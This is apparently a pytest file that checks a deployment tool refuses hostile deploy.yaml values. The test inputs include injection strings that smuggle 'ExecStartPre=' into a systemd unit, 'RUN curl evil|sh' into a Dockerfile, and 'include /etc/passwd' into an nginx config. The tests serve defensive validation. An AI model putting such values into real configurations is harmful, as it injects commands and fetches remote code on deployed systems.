"""`deployctl render` against hostile deploy.yaml values: every rendered file passes the tool that reads it, or
the render is refused with one line and exit 3 (exit 2 for a bad --out). Never a traceback, never an injected
line in a unit file, Dockerfile or nginx conf."""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parent))
from render_support import API_KEY, write_config  # noqa: E402

REPO = Path(__file__).resolve().parents[2]
ENV = {**os.environ, "LLM_API_KEY": API_KEY,
       "PYTHONPATH": os.pathsep.join([str(REPO), str(REPO / "runtime"), os.environ.get("PYTHONPATH", "")])}


def render(cfg: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "deployctl", "render", "-c", str(cfg), "--out", str(out),
                           "--release-id", "r1", "--no-validate", *extra],
                          env=ENV, capture_output=True, text=True, timeout=60)


def assert_refused(proc: subprocess.CompletedProcess, code: int, *needles: str) -> str:
    err = proc.stderr.strip()
    assert proc.returncode == code, (proc.returncode, err)
    assert "Traceback" not in err and len(err.splitlines()) == 1, err
    for needle in needles:
        assert needle in err, err
    return err


def _host(**kw):
    return {"name": "gpu-a", "address": "10.0.0.11", "deploy_root": "/opt/d", "python": "/usr/bin/python3", **kw}


def test_infinite_request_timeout_is_a_config_error(tmp_path):
    # `.inf` passed gt=0; math.ceil(inf) in the router render raised OverflowError (a traceback)
    cfg = write_config(tmp_path / "deploy.yaml", server={"request_timeout_s": float("inf")})
    assert_refused(render(cfg, tmp_path / "out"), 3, "server.request_timeout_s")


def test_absurd_startup_timeout_is_a_config_error(tmp_path):
    # 1e308 s rendered TimeoutStartSec=1e308-digits, which systemd-analyze rejects: refuse it up front
    cfg = write_config(tmp_path / "deploy.yaml", server={"startup_timeout_s": 1e308})
    assert_refused(render(cfg, tmp_path / "out"), 3, "server.startup_timeout_s")


def test_infinite_pause_is_a_config_error_for_k8s(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", rollout={"pause_s": float("inf")})
    assert_refused(render(cfg, tmp_path / "out", "--target", "k8s-rollout"), 3, "rollout.pause_s")


def test_user_with_a_line_break_cannot_inject_unit_lines(tmp_path):
    # hosts[].user was free text put after User= in the unit: a newline added any directive (ExecStartPre=...)
    cfg = write_config(tmp_path / "deploy.yaml",
                       hosts=[_host(user="deploy\nExecStartPre=/bin/touch /tmp/pwned")])
    assert_refused(render(cfg, tmp_path / "out"), 3, "hosts[0].user")
    assert not (tmp_path / "out").exists()


def test_user_with_a_space_is_a_config_error(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", hosts=[_host(user="de ploy")])
    assert_refused(render(cfg, tmp_path / "out"), 3, "hosts[0].user")


def test_ordinary_user_names_still_render(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", hosts=[_host(user="svc_llm-1")])
    proc = render(cfg, tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    assert "User=svc_llm-1\n" in (tmp_path / "out/hosts/gpu-a/chat-7b.service").read_text()


def test_base_image_with_a_line_break_cannot_inject_dockerfile_lines(tmp_path):
    # container.base_image went raw after FROM: "python:3.11\nRUN curl evil|sh" added a RUN line
    cfg = write_config(tmp_path / "deploy.yaml", container={"base_image": "python:3.11\nRUN curl evil|sh"})
    assert_refused(render(cfg, tmp_path / "out", "--target", "container"), 3, "container.base_image")


def test_image_with_a_space_is_a_config_error(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", container={"image": "registry/x:1 --privileged"})
    assert_refused(render(cfg, tmp_path / "out", "--target", "k8s"), 3, "container.image")


def test_image_references_with_registry_port_and_digest_render(tmp_path):
    image = "registry.example.com:5000/team/llm@sha256:" + "a" * 64
    cfg = write_config(tmp_path / "deploy.yaml", container={"image": image, "base_image": "nvidia/cuda:12.4.1-runtime-ubuntu22.04"})
    proc = render(cfg, tmp_path / "out", "--target", "container")
    assert proc.returncode == 0, proc.stderr
    assert yaml.safe_load((tmp_path / "out/hosts/gpu-a/compose.yaml").read_text())["services"]["runtime"]["image"] == image
    assert "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\n" in (tmp_path / "out/hosts/gpu-a/Dockerfile").read_text()


def test_router_listen_address_that_is_not_an_address_is_a_config_error(tmp_path):
    # router.listen_address went raw into `listen ...;`: "0.0.0.0; include /etc/passwd" was an nginx directive
    cfg = write_config(tmp_path / "deploy.yaml", router={"listen_address": "0.0.0.0; include /etc/passwd"})
    assert_refused(render(cfg, tmp_path / "out"), 3, "router.listen_address")


def test_router_ipv6_listen_address_renders(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", router={"listen_address": "::1"})
    proc = render(cfg, tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    assert "listen [::1]:8088;" in (tmp_path / "out/router/chat-7b.conf").read_text()


def test_unicode_served_name_reads_back_exactly(tmp_path):
    # `q` wrote non-ASCII raw: U+2028 and NEL are line breaks to YAML (folded to a space: the runtime served
    # another name), and U+007F made runtime.yaml unreadable ("special characters are not allowed")
    name = "modèl-日本\u2028x\x85y\x7fz"
    cfg = write_config(tmp_path / "deploy.yaml", model={"served_name": name})
    proc = render(cfg, tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    runtime_yaml = yaml.safe_load((tmp_path / "out/hosts/gpu-a/runtime.yaml").read_text())
    assert runtime_yaml["served_model_name"] == name
    proc = render(cfg, tmp_path / "k8s", "--target", "k8s")
    assert proc.returncode == 0, proc.stderr
    configmap = yaml.safe_load((tmp_path / "k8s/k8s/configmap.yaml").read_text())
    assert yaml.safe_load(configmap["data"]["runtime.yaml"])["served_model_name"] == name


def test_out_that_is_a_file_is_a_usage_error(tmp_path):
    # write_files' mkdir raised NotADirectoryError (a traceback)
    cfg = write_config(tmp_path / "deploy.yaml")
    (tmp_path / "afile").write_text("keep me\n")
    assert_refused(render(cfg, tmp_path / "afile"), 2, "--out", str(tmp_path / "afile"))
    assert (tmp_path / "afile").read_text() == "keep me\n"


def test_out_that_cannot_be_created_is_a_usage_error(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml")
    assert_refused(render(cfg, Path("/proc/deployctl-no-such-dir")), 2, "--out")


def _local_hosts(**second):
    return [{"name": "h1", "address": "local", "deploy_root": "/srv/d1", "launcher": "process"},
            {"name": "h2", "address": "local", "deploy_root": "/srv/d2", "launcher": "process", **second}]


def test_two_hosts_on_one_address_and_port_are_a_config_error(tmp_path):
    # both runtimes would bind 127.0.0.1:8080 (the second fails) and nginx got the same server line twice
    cfg = write_config(tmp_path / "deploy.yaml", hosts=_local_hosts())
    assert_refused(render(cfg, tmp_path / "out"), 3, "h1", "h2", "8080", "server_port")


def test_router_listening_on_a_runtime_port_is_a_config_error(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", hosts=_local_hosts(server_port=8081), router={"listen": 8081})
    assert_refused(render(cfg, tmp_path / "out"), 3, "router.listen", "8081", "h2")


def test_local_hosts_on_distinct_ports_render_and_pass_nginx(tmp_path):
    cfg = write_config(tmp_path / "deploy.yaml", hosts=_local_hosts(server_port=8081))
    proc = subprocess.run([sys.executable, "-m", "deployctl", "render", "-c", str(cfg), "--out", str(tmp_path / "o"),
                           "--release-id", "r1"], env=ENV, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    conf = (tmp_path / "o/router/chat-7b.conf").read_text()
    assert "server 127.0.0.1:8080;" in conf and "server 127.0.0.1:8081;" in conf


@pytest.mark.parametrize("release_id,target", [("r1-", "k8s"), ("r1_", "k8s-rollout"), ("a" * 64, "k8s"),
                                               ("a" * 200, "container"), ("a" * 300, "systemd")])
def test_release_id_that_is_not_a_label_tag_and_file_name_is_refused(tmp_path, release_id, target):
    # passed every validator and rendered: a k8s label value that kubectl rejects (must end alphanumeric, <= 63),
    # an image tag Docker rejects (> 128), a release directory name over NAME_MAX (255)
    cfg = write_config(tmp_path / "deploy.yaml")
    proc = subprocess.run([sys.executable, "-m", "deployctl", "render", "-c", str(cfg), "--out", str(tmp_path / "o"),
                           "--release-id", release_id, "--target", target, "--no-validate"],
                          env=ENV, capture_output=True, text=True, timeout=60)
    assert_refused(proc, 3, "release id")
